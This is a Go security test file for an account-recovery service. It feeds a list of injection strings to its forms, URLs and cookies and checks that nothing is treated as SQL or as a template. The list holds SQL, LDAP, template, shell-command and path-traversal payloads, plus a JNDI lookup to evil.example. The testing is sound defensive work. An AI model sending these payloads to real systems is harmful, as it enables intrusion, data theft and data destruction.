package attacks

import (
	"net/url"
	"strings"
	"testing"

	"keyback/internal/account/local"
	"keyback/internal/testkit"
	"keyback/internal/testkit/stage"
)

var injections = []string{
	"'", "''", `"`, "`", "\\", "';--", "' OR '1'='1", "' OR 1=1--", `" OR ""="`, "'; DROP TABLE recovery;--", "'; UPDATE local_account SET password = '';--", "' UNION SELECT password FROM local_account--", "1; SELECT pg_sleep(9)--",
	"'||(SELECT password FROM local_account LIMIT 1)||'", "$1", "$$", "$q$", "?", ":name", "@p1", "%", "_", "%%", "victim%", "vict_m", "*", "victim*", "*)(uid=*))(|(uid=*", "admin)(&)", "{{.}}", "{{define `x`}}", "{{template `layout`}}", "${jndi:ldap://evil.example}",
	"#{7*7}", "<%= 1 %>", "{% debug %}", "%s%s%n", "%!d(string=x)", "../../etc/passwd", "; ls", "$(id)", "|id", "{n}", "{brand}", "{{n}}", "'{'{brand}",
}

func TestNothingTypedIsReadAsSQLOrATemplate(t *testing.T) {
	stage.Each(t, testkit.InCheckAll, stage.Options{Loose: true}, func(t *testing.T, s *stage.Stage) {
		s.Account("victim", "victim@example.com")
		thief := s.Account("thief", "thief@example.com")
		v := s.Visitor()
		v.SignIn("thief", stage.Password)
		r := start(s, "thief@example.com", "thief@example.com", 1)
		v.Open(r.link)
		for _, injection := range injections {
			for path, fields := range map[string]url.Values{
				"/recover":               {"login": {injection}, "loss": {injection}},
				"/signin":                {"login": {injection}, "password": {injection}},
				"/account/end":           {"place": {injection}},
				"/recover/open/password": {"account": {string(thief.ID) + injection}, "password": {"x"}, "username": {injection}},
				"/recover/open/unlock":   {"account": {injection}, "yes": {injection}},
				"/stop":                  {"yes": {injection}},
				r.inbox + "/code":        {"code": {injection}},
			} {
				p := do(t, v, "POST", s.URL+path, fields)
				if p.Status >= 500 || strings.Contains(string(p.Body), "argon2") || path == "/signin" && p.URL.Path == "/account" {
					t.Errorf("%s with %q was answered with %d at %s", path, injection, p.Status, p.URL.Path)
				}
				if path == "/recover" && p.Status == 422 && strings.ContainsAny(injection, `<>"'`) && strings.Contains(string(p.Body), `value="`+injection+`"`) {
					t.Errorf("%q stands in the page as it is", injection)
				}
			}
			for _, path := range []string{"/recover/%s", "/recover/%s/live", "/in/%s", "/stop/%s", "/recover/open?account=%s&as=%s", "/recover?name=%s&loss=%s", "/signin?name=%s"} {
				p := do(t, v, "GET", s.URL+strings.ReplaceAll(path, "%s", url.PathEscape(injection)), nil)
				if p.Status >= 500 {
					t.Errorf("%s with %q was answered with %d", path, injection, p.Status)
				}
			}
			carry(s.Visitor(), "kb_pass="+url.QueryEscape(injection)+"; kb_session="+url.QueryEscape(injection)+"; kb_stop="+url.QueryEscape(injection)+"; kb_browser="+url.QueryEscape(injection)).Open("/account")
		}
		for _, m := range s.Sink.Messages() {
			if l := read(t, m); l.Link != "" && m.To != "thief@example.com" {
				t.Errorf("%s got a way in", m.To)
			}
		}
		if n := count(t, s, `SELECT count(*) FROM local_account`); n != 2 {
			t.Errorf("there are %d accounts", n)
		}
		unchanged(t, s, "victim")
		s.Verify()
	})
}

func TestANameOnFileIsNoTemplate(t *testing.T) {
	s := stage.Open(t, stage.Options{Loose: true})
	for i, name := range []string{"{{.Link}}", "{brand}", "{n}", "{{printf `%x` 255}}", "%s%d", "${7*7}", "{left}"} {
		address := "holder" + string(rune('a'+i)) + "@example.com"
		s.Add(local.Entry{Name: name, Password: stage.Password}, address)
		r := start(s, address, address, 1)
		if p := s.Visitor().Open(r.link); !opens(p) || p.Status != 200 {
			t.Errorf("%q breaks the page: %d %s", name, p.Status, p.Heading())
		} else if f, _ := p.FormWith("username"); f.Fields["username"] != name {
			t.Errorf("%q is shown as %q", name, f.Fields["username"])
		}
	}
}
